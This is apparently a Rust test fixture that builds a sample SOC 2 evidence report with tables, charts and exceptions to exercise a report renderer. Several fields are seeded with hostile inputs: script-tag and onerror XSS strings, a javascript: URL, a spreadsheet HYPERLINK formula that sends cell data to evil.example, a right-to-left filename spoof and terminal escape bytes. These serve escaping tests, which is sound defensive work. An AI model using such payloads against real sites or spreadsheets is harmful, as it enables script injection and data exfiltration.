//! A report with everything in it: each kind of block, cell and chart, and names of people who
//! mean no good.

#![allow(dead_code)] // not every test needs all of it

use abide_audit::document::*;

/// 2026-01-01T00:00Z.
pub(crate) const START: i64 = 1_767_225_600_000;
pub(crate) const DAY: i64 = 86_400_000;
pub(crate) const DIGEST: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

pub(crate) const SCRIPT: &str = "<script>alert('owned')</script><img src=x onerror=alert(1)>";
pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
pub(crate) const PIPES: &str = "a | b `code` || **bold** [link](http://evil.example) @everyone #12";
pub(crate) const TURNED: &str = "invoice\u{202e}gpj.exe\u{200b}\u{feff} שלום عربى";
pub(crate) const BREAKS: &str =
    "first line\nsecond line\r\n| not | a | row |\n\u{1b}[31mred\u{7}\0";
pub(crate) const EMOJI: &str = "release 🚀 日本語 ✅ ❌ → ≤ Ünïcödé";

/// A resource address without spaces, of 300 characters.
pub(crate) fn long_address() -> String {
    let head =
        "module.platform.module.network[\"eu-central-1\"].aws_vpc_security_group_ingress_rule.";
    let tail = "allow_from_partner_network_through_transit_gateway_";
    let text = format!("{head}{}", tail.repeat(5));
    text.chars().take(297).collect::<String>() + "[0]"
}

fn text(text: &str) -> Cell {
    Cell::Text(text.to_owned())
}

fn code(text: &str) -> Cell {
    Cell::Code(text.to_owned())
}

fn link(text: &str, section: &str) -> Cell {
    Cell::Link {
        text: text.to_owned(),
        section: section.to_owned(),
    }
}

fn column(key: &str, title: &str, kind: ColumnKind) -> Column {
    Column::new(key, title, kind)
}

/// The whole report.
pub(crate) fn sample() -> Document {
    Document {
        title: "SOC 2 evidence: CC6.1, CC6.6".to_owned(),
        subtitle: "1 January to 30 June 2026, payments (production)".to_owned(),
        digest: DIGEST.to_owned(),
        made_by: "abide 0.1.0".to_owned(),
        made_at: START + 182 * DAY,
        facts: vec![
            Fact::new(
                "Framework",
                text("SOC 2, Trust Services Criteria 2017 (2022)"),
            ),
            Fact::new("Period", text("2026-01-01 to 2026-06-30, UTC")),
            Fact::new(
                "Targets",
                Cell::List(vec!["payments".to_owned(), SCRIPT.to_owned()]),
            ),
            Fact::new("Ledger", text("3,300 entries")),
            Fact::new("Root", code("qL5mA1x0W0cXoDqk4b8H1m8pW7yWcG2jJf3nB8mX0aE=")),
            Fact::new(
                "Verify",
                code("abide evidence verify bundle/ --checkpoint earlier.txt"),
            ),
            Fact::new(
                "Share passed",
                Cell::Percent {
                    part: 81_900,
                    whole: 82_900,
                },
            ),
            Fact::new("Oldest scan", Cell::Time(START + 3_723_000)),
        ],
        sections: vec![
            summary(),
            completeness(),
            posture(),
            deviations(40),
            exceptions(),
            limits(),
        ],
        csv_table: Some("deviations".to_owned()),
    }
}

/// The same with a table of many rows.
pub(crate) fn large(rows: usize) -> Document {
    let mut document = sample();
    document.sections[3] = deviations(rows);
    document
}

fn summary() -> Section {
    let control = |id: &str, title: &str, verdict, blocks| Section {
        verdict: Some(verdict),
        blocks,
        ..Section::new(id, title)
    };
    let checked = |times: &str| {
        Block::Paragraph(Inline(vec![
            Span::Text("Checked ".to_owned()),
            Span::Strong(times.to_owned()),
            Span::Text(" times during the period.".to_owned()),
        ]))
    };
    Section {
        blocks: vec![
            Block::Paragraph("What was asked of each control and what came of it. A control passes only if every evaluation of every scan passed or was excepted.".into()),
            Block::Notice {
                kind: NoticeKind::Problem,
                text: Inline(vec![
                    Span::Text("1 of 3 controls failed, see ".to_owned()),
                    Span::Link { text: "all deviations".to_owned(), section: "deviations".to_owned() },
                    Span::Text(".".to_owned()),
                ]),
            },
        ],
        sections: vec![
            control("cc6-1", "SOC2-CC6.1", Verdict::Pass, vec![checked("1,300")]),
            control(
                "cc6-6",
                "SOC2-CC6.6",
                Verdict::Fail,
                vec![
                    checked("1,300"),
                    Block::List {
                        ordered: false,
                        items: vec![
                            Inline(vec![
                                Span::Code("aws_security_group.db".to_owned()),
                                Span::Text(": port 5432 is open to 0.0.0.0/0".to_owned()),
                            ]),
                            Inline(vec![Span::Code(long_address()), Span::Text(format!(": {PIPES}"))]),
                            Inline(vec![Span::Code(SCRIPT.to_owned()), Span::Text(format!(": {BREAKS}"))]),
                        ],
                    },
                ],
            ),
            control("cc7-1", "SOC2-CC7.1 <b>custom</b>", Verdict::Unknown, vec![checked("12")]),
        ],
        ..Section::new("summary", "Summary by control")
    }
}

fn completeness() -> Section {
    let counts = Table {
        id: "verdicts".to_owned(),
        caption: "Evaluations by verdict".to_owned(),
        columns: vec![
            column("verdict", "Verdict", ColumnKind::Word),
            column("evaluations", "Evaluations", ColumnKind::Number),
            column("share_percent", "Share", ColumnKind::Number),
            column("resource_days", "Resource-days", ColumnKind::Number),
            column("counted", "Counted", ColumnKind::Word),
        ],
        rows: Verdict::ALL
            .into_iter()
            .zip([81_900_u64, 612, 380, 8, 0, 0])
            .map(|(verdict, count)| {
                vec![
                    Cell::Verdict(verdict),
                    Cell::Integer(count as i64),
                    Cell::Percent {
                        part: count,
                        whole: 82_900,
                    },
                    Cell::Decimal {
                        value: count as i64 * 137,
                        places: 2,
                    },
                    Cell::Bool(verdict != Verdict::NotApplicable),
                ]
            })
            .collect(),
        total: Some(vec![
            text("all"),
            Cell::Integer(82_900),
            Cell::Percent { part: 1, whole: 1 },
            Cell::Decimal {
                value: 11_357_300,
                places: 2,
            },
            Cell::Empty,
        ]),
        note: Some("Not applicable is not stored and not counted.".to_owned()),
        empty: String::new(),
    };
    Section {
        new_page: true,
        blocks: vec![
            Block::Facts(vec![
                Fact::new("Scans due", Cell::Integer(1_310)),
                Fact::new("Scans made", Cell::Integer(1_300)),
                Fact::new("Longest gap", Cell::Days(3 * DAY + DAY / 3)),
                Fact::new("First scan", Cell::Date(START)),
                Fact::new("Change request", Cell::Url("https://git.example/payments/pull/417?tab=files&x=1".to_owned())),
                Fact::new("Not a link", Cell::Url("javascript:alert(1)".to_owned())),
            ]),
            Block::Notice {
                kind: NoticeKind::Warning,
                text: "No scan was made from 2 to 5 March. What happened then is not known; it is not counted as passed.".into(),
            },
            Block::Table(counts),
            Block::Table(Table {
                id: "missed".to_owned(),
                caption: "Scans that failed".to_owned(),
                columns: vec![column("due_at", "Due", ColumnKind::Time), column("reason", "Reason", ColumnKind::Text)],
                empty: "No scan failed in the period.".to_owned(),
                ..Table::default()
            }),
        ],
        ..Section::new("completeness", "Completeness")
    }
}

fn posture() -> Section {
    let times: Vec<i64> = (0..26).map(|week| START + week * 7 * DAY).collect();
    let share = |week: usize| match week {
        9 | 10 => None,
        week => Some(94.0 + (week % 7) as f64 * 0.8),
    };
    let series = |name: &str, tone, values: Vec<Option<f64>>| Series {
        name: name.to_owned(),
        tone,
        values,
    };
    let chart = |id: &str, title: &str, summary: &str, data| {
        Block::Chart(Chart {
            id: id.to_owned(),
            title: title.to_owned(),
            summary: summary.to_owned(),
            data,
        })
    };
    let severities = || {
        Severity::ALL
            .iter()
            .map(|severity| severity.as_str().to_owned())
            .collect::<Vec<_>>()
    };
    Section {
        new_page: true,
        blocks: vec![
            chart(
                "posture",
                "Share of evaluations that passed",
                "The share passed stays between 94% and 99%; nothing was measured for two weeks in March.",
                ChartData::Lines {
                    unit: Unit::Percent,
                    times,
                    series: vec![
                        series("payments", Tone::Plain(0), (0..26).map(share).collect()),
                        series(
                            SCRIPT,
                            Tone::Plain(1),
                            (0..26)
                                .map(|week| {
                                    share((week + 3) % 26)
                                        .map(|v| v - 2.0)
                                        .filter(|_| week != 9 && week != 10)
                                })
                                .collect(),
                        ),
                    ],
                },
            ),
            chart(
                "open",
                "Open at the end of the period, by severity",
                "1 critical, 4 high, 9 medium and 2 low violations are open.",
                ChartData::Bars {
                    unit: Unit::Count,
                    categories: vec!["open".to_owned(), "excepted".to_owned()],
                    series: Severity::ALL
                        .into_iter()
                        .zip([1.0, 4.0, 9.0, 2.0])
                        .map(|(severity, n)| {
                            series(
                                severity.as_str(),
                                Tone::Severity(severity),
                                vec![Some(n), Some(n - 1.0)],
                            )
                        })
                        .collect(),
                    stacked: true,
                },
            ),
            chart(
                "fix",
                "Time to fix, in days",
                "Half of the critical violations were fixed within 0.4 days.",
                ChartData::Bars {
                    unit: Unit::Days,
                    categories: severities(),
                    series: vec![
                        series(
                            "median",
                            Tone::Plain(0),
                            vec![Some(0.4), Some(2.1), Some(8.5), None],
                        ),
                        series(
                            "nine of ten",
                            Tone::Plain(1),
                            vec![Some(1.25), Some(6.0), Some(31.0), None],
                        ),
                    ],
                    stacked: false,
                },
            ),
            chart(
                "weekly",
                "New violations by week",
                "Between none and six new violations a week.",
                ChartData::Bars {
                    unit: Unit::Count,
                    categories: (1..=26).map(|week| format!("week {week}")).collect(),
                    series: Severity::ALL
                        .into_iter()
                        .map(|severity| {
                            series(
                                severity.as_str(),
                                Tone::Severity(severity),
                                (0..26)
                                    .map(|week| {
                                        (week != 9).then(|| {
                                            f64::from((week * 7 + severity as u32 * 3) % 4)
                                        })
                                    })
                                    .collect(),
                            )
                        })
                        .collect(),
                    stacked: true,
                },
            ),
            chart(
                "controls",
                "Controls by month",
                "CC6.6 failed in February and in May; CC7.1 could not be told in March.",
                ChartData::HeatMap {
                    columns: ["Jan", "Feb", "Mar", "Apr", "May", "Jun"]
                        .iter()
                        .map(|month| format!("{month} 2026"))
                        .collect(),
                    rows: vec![
                        heat("CC6.1", [Verdict::Pass; 6]),
                        heat(
                            "CC6.6",
                            [
                                Verdict::Pass,
                                Verdict::Fail,
                                Verdict::NotScanned,
                                Verdict::Excepted,
                                Verdict::Fail,
                                Verdict::Pass,
                            ],
                        ),
                        heat(
                            SCRIPT,
                            [
                                Verdict::NotApplicable,
                                Verdict::Unknown,
                                Verdict::NotScanned,
                                Verdict::Pass,
                                Verdict::Pass,
                                Verdict::Excepted,
                            ],
                        ),
                    ],
                },
            ),
        ],
        ..Section::new("posture", "Posture over time")
    }
}

fn heat(label: &str, verdicts: [Verdict; 6]) -> HeatRow {
    let count = |verdict| match verdict {
        Verdict::Fail => Some(3),
        Verdict::Excepted => Some(1),
        _ => None,
    };
    HeatRow {
        label: label.to_owned(),
        cells: verdicts
            .iter()
            .map(|verdict| HeatCell {
                verdict: *verdict,
                count: count(*verdict),
            })
            .collect(),
    }
}

pub(crate) fn deviation_row(at: usize) -> Vec<Cell> {
    let hostile = [SCRIPT, FORMULA, PIPES, TURNED, BREAKS, EMOJI];
    let address = match at % 8 {
        0 => long_address(),
        7 => hostile[at / 8 % hostile.len()].to_owned(),
        _ => format!("module.net.aws_security_group.service_{at}"),
    };
    let message = match at % 6 {
        3 => hostile[at / 6 % hostile.len()].to_owned(),
        _ => format!(
            "Port {} is open to 0.0.0.0/0; only the load balancer may reach it.",
            1000 + at
        ),
    };
    let opened = START + (at as i64 % 170) * DAY + 33_333_000;
    let fixed = !at.is_multiple_of(5);
    let days = (at as i64 * 7) % 40 * DAY / 3;
    vec![
        Cell::Integer(at as i64 + 1),
        Cell::Severity(Severity::ALL[at % 4]),
        code(["AWS-EC2-001", "AWS-S3-003", "AWS-RDS-002"][at % 3]),
        Cell::Code(address),
        Cell::Text(message),
        Cell::Time(opened),
        if fixed {
            Cell::Time(opened + days)
        } else {
            Cell::Empty
        },
        if fixed { Cell::Days(days) } else { Cell::Empty },
        Cell::Verdict(if fixed { Verdict::Pass } else { Verdict::Fail }),
    ]
}

fn deviations(rows: usize) -> Section {
    Section {
        new_page: true,
        blocks: vec![
            Block::Paragraph(
                "Every violation that stood at any time in the period, not a sample.".into(),
            ),
            Block::Table(Table {
                id: "deviations".to_owned(),
                caption: "All deviations".to_owned(),
                columns: vec![
                    column("number", "No.", ColumnKind::Number),
                    column("severity", "Severity", ColumnKind::Word),
                    column("policy_id", "Policy", ColumnKind::Code),
                    column("resource_address", "Resource", ColumnKind::Code),
                    column("message", "Message", ColumnKind::Text),
                    column("first_seen", "First seen", ColumnKind::Time),
                    column("fixed_at", "Fixed", ColumnKind::Time),
                    column("days_open", "Open for", ColumnKind::Number),
                    column("verdict", "At the end", ColumnKind::Word),
                ],
                rows: (0..rows).map(deviation_row).collect(),
                ..Table::default()
            }),
        ],
        ..Section::new("deviations", "All deviations")
    }
}

fn exceptions() -> Section {
    let span = |from: i64, to: Option<i64>| TimeSpan {
        from: START + from * DAY,
        to: to.map(|to| START + to * DAY),
        tone: Tone::Verdict(Verdict::Excepted),
    };
    let row = |label: &str, spans: Vec<TimeSpan>| SpanRow {
        label: label.to_owned(),
        spans,
    };
    Section {
        new_page: true,
        blocks: vec![
            Block::Chart(Chart {
                id: "in-force".to_owned(),
                title: "Exceptions in force".to_owned(),
                summary: "EXC-1 was in force twice, EXC-2 still is.".to_owned(),
                data: ChartData::Spans {
                    from: START,
                    to: START + 181 * DAY,
                    rows: vec![
                        row("EXC-1", vec![span(10, Some(40)), span(90, Some(120))]),
                        row("EXC-2", vec![span(100, None)]),
                        row(SCRIPT, vec![span(-20, Some(30))]),
                    ],
                },
            }),
            Block::Table(Table {
                id: "exceptions".to_owned(),
                caption: "All exceptions in force in the period".to_owned(),
                columns: vec![
                    column("id", "Exception", ColumnKind::Code),
                    column("requester", "Requester", ColumnKind::Text),
                    column("approvers", "Approvers", ColumnKind::Text),
                    column("reason", "Reason", ColumnKind::Text),
                    column("expires", "Expires", ColumnKind::Date),
                    column("control", "Control", ColumnKind::Text),
                ],
                rows: vec![
                    vec![
                        code("EXC-1"),
                        text("mara@example.com"),
                        Cell::List(vec!["jo@example.com".to_owned(), FORMULA.to_owned()]),
                        text(BREAKS),
                        Cell::Date(START + 40 * DAY),
                        link("CC6.6", "cc6-6"),
                    ],
                    vec![
                        code("EXC-2"),
                        text(TURNED),
                        Cell::List(vec![SCRIPT.to_owned()]),
                        text(EMOJI),
                        Cell::Date(START + 300 * DAY),
                        link("CC6.1", "cc6-1"),
                    ],
                ],
                note: Some("Approvers are as in the signed commits.".to_owned()),
                ..Table::default()
            }),
        ],
        ..Section::new("exceptions", "Exceptions")
    }
}

fn limits() -> Section {
    Section {
        blocks: vec![
            Block::Paragraph(Inline(vec![
                Span::Text("A scan shows what Terraform declares. To check this report without the program, run ".to_owned()),
                Span::Code("python3 verify.py bundle/".to_owned()),
                Span::Text(" or follow the steps:".to_owned()),
            ])),
            Block::List {
                ordered: true,
                items: vec!["Unpack the bundle.".into(), "Compare the digest at the foot of each page.".into(), "1. # + - = ``` > not markup".into()],
            },
            Block::Code("sha256sum -c MANIFEST\n\topenssl pkeyutl -verify -pubin -inkey key.pem\n```\n</code></pre><script>alert(1)</script>".to_owned()),
            Block::Notice { kind: NoticeKind::Note, text: "Data planes are not looked at.".into() },
        ],
        ..Section::new("limits", "Method and limits")
    }
}
